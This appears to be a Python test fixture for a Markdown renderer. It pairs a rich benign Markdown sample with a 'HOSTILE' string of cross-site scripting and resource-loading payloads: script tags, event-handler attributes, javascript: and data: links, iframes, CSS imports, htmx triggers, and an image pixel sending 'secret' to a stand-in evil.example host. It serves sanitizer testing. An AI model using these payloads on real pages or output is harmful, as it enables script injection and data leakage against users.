"""What models answer in these tests: Markdown of every kind, and what must never run."""

MARKDOWN = """# Bridges 🌉

A first paragraph with *emphasis*, **weight**, `code`, [a link](https://example.org/a) and a [late one][late].

| Span | Metres | Year |
|:-----|-------:|:----:|
| Stone arch | 31 | 1502 |
| Žluťoučký 🐎 | 1 991 | 1998 |

1. First
   - nested, with a [late one][late]
   - nested twice

     a paragraph inside the list
2. Second

```python
def span(metres: float) -> str:
    # A comment with <tags> & signs
    return f"{metres:.1f} m"
```

> A quotation
> of two lines.

The load is $F = m \\cdot a$, and

$$
\\sum_{i=1}^{n} F_i = 0
$$

- [x] measured
- [ ] built

---

The end, with “quotes” and a family of code points: 👩‍👩‍👧 é.

[late]: https://example.org/late
"""

# Each line tries to run, to load or to send something. None of the hosts exists.
HOSTILE = """Before <script>window.hacked = 1; alert(1)</script> after

<img src=x onerror="window.hacked = 1; alert(1)">

![pixel](https://evil.example/pixel.png?q=secret) and ![reference][pixel]

[click](javascript:window.hacked=1) [data](data:text/html,<script>alert(1)</script>)

<svg onload="window.hacked = 1"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>

<iframe src="https://evil.example/frame" srcdoc="<script>parent.hacked = 1</script>"></iframe>

<style>@import url("https://evil.example/style.css"); body { display: none }</style>

<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/">

<form action="https://evil.example/form"><input name="x" autofocus onfocus="window.hacked = 1"></form>

<div hx-get="https://evil.example/htmx" hx-trigger="load" hx-on:htmx:load="window.hacked = 1">hx</div>

<p style="background: url(https://evil.example/background.png)" id="composer" data-run="1">style</p>

<video src="https://evil.example/film.mp4" autoplay></video><object data="https://evil.example/o"></object>

$\\href{javascript:window.hacked=1}{x}$ and $\\unicode{<img src=x onerror=alert(1)>}$

```html"><script>window.hacked = 1</script>
<script>window.hacked = 1</script>
```

`<script>window.hacked = 1</script>` <details open ontoggle="window.hacked = 1">d</details>

| <img src=x onerror=alert(1)> | b |
|---|---|
| <a href="javascript:alert(1)" onmouseover="alert(1)">c</a> | https://evil.example/auto |

The end of the attempts.

[pixel]: https://evil.example/reference.png
"""
